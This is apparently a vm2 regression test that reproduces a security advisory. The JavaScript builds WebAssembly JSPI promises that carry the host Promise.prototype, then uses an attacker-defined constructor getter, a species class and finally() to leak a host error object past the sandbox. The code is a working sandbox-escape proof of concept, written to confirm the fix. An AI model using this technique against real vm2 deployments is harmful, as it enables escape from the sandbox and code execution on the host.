// Source: vm2 test/ghsa/GHSA-6j2x-vhqr-qr7q/repro.js (fixed after vm2 3.11.2, by 3.12.2): WebAssembly JSPI
// (WebAssembly.promising / WebAssembly.Suspending, Node 24 behind a flag, Node 26 by default) gives
// promises whose prototype is the host Promise.prototype, outside every vm2 wrapper.
// Tried: the canonical PoC — a JSPI promise rejected with a host TypeError from
// WebAssembly.compileStreaming(0), an attacker `constructor` getter and class F, then p.finally().
const out = { promising: typeof WebAssembly.promising, Suspending: typeof WebAssembly.Suspending };
const b = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 109, 1, 102, 0, 0, 3, 2, 1, 0, 7, 7, 1, 3, 114, 117, 110, 0, 1, 10, 6, 1, 4, 0, 16, 0, 11);
try {
  const r = await WebAssembly.instantiate(b, { m: { f: new WebAssembly.Suspending(() => WebAssembly.compileStreaming(Promise.resolve(0))) } });
  const p = WebAssembly.promising(r.instance.exports.run)();
  class F {
    constructor(x) {
      this.s = 0; this.q = [];
      x((v) => { this.s = 1; this.v = v; for (const i of this.q) if (i[0]) i[0](v); }, (e) => { out.reject = true; __wr.use(e, 'JSPI reject'); this.s = 2; this.v = e; for (const i of this.q) if (i[1]) i[1](e); });
    }
    then(f, rj) { if (this.s == 1) return f ? f(this.v) : this.v; if (this.s == 2) { if (rj) return rj(this.v); throw this.v; } this.q.push([f, rj]); return 0; }
  }
  Object.defineProperty(F, Symbol.species, { get() { return F; } });
  Object.defineProperty(p, 'constructor', { configurable: true, get() { return F; } });
  p.finally(() => {});
  await sleep(50);
} catch (e) { out.blocked = String(e.message).slice(0, 100); }
return out;
